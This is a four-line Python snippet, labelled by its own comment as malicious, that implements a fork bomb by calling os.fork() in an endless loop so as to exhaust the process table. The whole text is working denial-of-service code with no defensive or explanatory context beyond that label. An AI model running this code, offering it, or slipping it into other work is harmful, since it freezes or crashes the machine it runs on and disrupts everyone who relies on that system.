# Malicious: the Python fork bomb, os.fork() in an endless loop; exhausts the process table.
import os

while True:
    os.fork()
